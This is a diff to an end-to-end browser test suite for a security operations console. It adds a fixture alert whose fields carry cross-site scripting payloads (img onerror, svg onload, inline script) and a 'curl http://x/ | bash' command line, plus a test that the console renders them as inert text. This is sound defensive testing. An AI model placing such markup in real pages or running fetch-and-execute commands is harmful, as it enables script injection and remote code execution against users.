@@ -12,6 +12,7 @@ of every flow are kept as test artefacts in ``$SOCD_TEST_ARTIFACTS`` (default
 
 from __future__ import annotations
 
+import json
 import os
 import re
 import shutil
@@ -61,7 +62,18 @@ def browser() -> Iterator[Any]:
 
 # The first records of the sample week, through the real file collector and decoders.
 FEEDS = (("server_edr", "server-edr.ndjson", 40), ("workstation_edr", "workstation-edr.ndjson", 20))
-FED = sum(n for _, _, n in FEEDS)
+# A server-EDR record whose attacker-controlled texts (host name, threat name as the
+# rule, description as the message, command line) carry markup.
+HOSTILE = {
+    "alert_id": "SG-20261115-XSS", "detected_at": "2026-11-15T23:00:00+07:00",
+    "hostname": "srv-<img src=x onerror=alert('host')>", "host_ip": "10.10.20.99",
+    "os": "Ubuntu 22.04", "severity": "Trung bình", "category": "Suspicious process",
+    "threat_name": "Webshell\"><svg onload=alert('rule')>",
+    "description": "<script>alert('message')</script>Tải script lạ",
+    "process": {"name": "bash", "pid": 4242, "user": "root",
+                "command_line": "curl http://x/</pre><script>alert('cmd')</script> | bash"},
+    "action": "detected", "agent_id": "SGA-XSS"}
+FED = sum(n for _, _, n in FEEDS) + 1
 OWN = "10.10.0.0/16"  # the province's own networks: never an IoC, never blocked
 BLOCKED = "198.51.100.77"
 
@@ -70,6 +82,8 @@ def _feeds(workdir: Path) -> dict[str, Any]:
     collectors = {}
     for decoder, name, count in FEEDS:
         lines = (SAMPLE / name).read_bytes().splitlines(keepends=True)[:count]
+        if decoder == "server_edr":
+            lines.append(json.dumps(HOSTILE, ensure_ascii=False).encode() + b"\n")
         path = workdir / name
         path.write_bytes(b"".join(lines))
         collectors[decoder] = {"type": "file", "mode": "oneshot", "paths": [str(path)],
@@ -204,8 +218,8 @@ def test_triage_false_positive(page: Any, console: Console) -> None:
 
     sign_in(page, "analyst")
     page.goto("/alerts")
-    # One page of the newest 50 of the 60 fed, a link to the next, and the counts per
-    # severity of all 60 as the store has them.
+    # One page of the newest 50 of the 61 fed, a link to the next, and the counts per
+    # severity of all 61 as the store has them.
     expect(page.locator("table.alerts tbody tr")).to_have_count(50)
     expect(page.locator("a[rel=next]")).to_be_visible()
     for severity, count in _severity_counts(console).items():
@@ -433,3 +447,29 @@ def test_downloads_incident_notice_and_weekly_report(page: Any, console: Console
     cells = "\n".join(c.text for t in document.tables for r in t.rows for c in r.cells)
     assert "16/11/2026" in body + cells
     assert "Độc lập - Tự do - Hạnh phúc" in body + cells
+
+
+def test_hostile_event_text_is_inert(page: Any) -> None:
+    """Markup an attacker put in an event (host name, rule text, message, command line)
+    is shown as text in the queue and on the alert's page: Chromium runs none of it
+    (no dialog), builds no element from it, and the pages have no inline script."""
+    from playwright.sync_api import expect
+
+    dialogs: list[str] = []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    sign_in(page, "analyst")
+    page.goto("/alerts?q=Webshell")
+    rows = page.locator("table.alerts tbody tr")
+    expect(rows).to_have_count(1)
+    expect(rows.first).to_contain_text(HOSTILE["hostname"])
+    expect(rows.first).to_contain_text(HOSTILE["threat_name"])
+    rows.first.locator("a").first.click()
+    expect(page.locator("h1")).to_contain_text(HOSTILE["threat_name"])
+    body = page.locator("body")
+    for text in (HOSTILE["hostname"], HOSTILE["description"],
+                 HOSTILE["process"]["command_line"]):
+        expect(body).to_contain_text(text)
+    shot(page, "13-hostile-alert")
+    for injected in ("img[src=x]", "svg[onload]", "script:not([src])"):
+        expect(page.locator(injected)).to_have_count(0)
+    assert dialogs == []
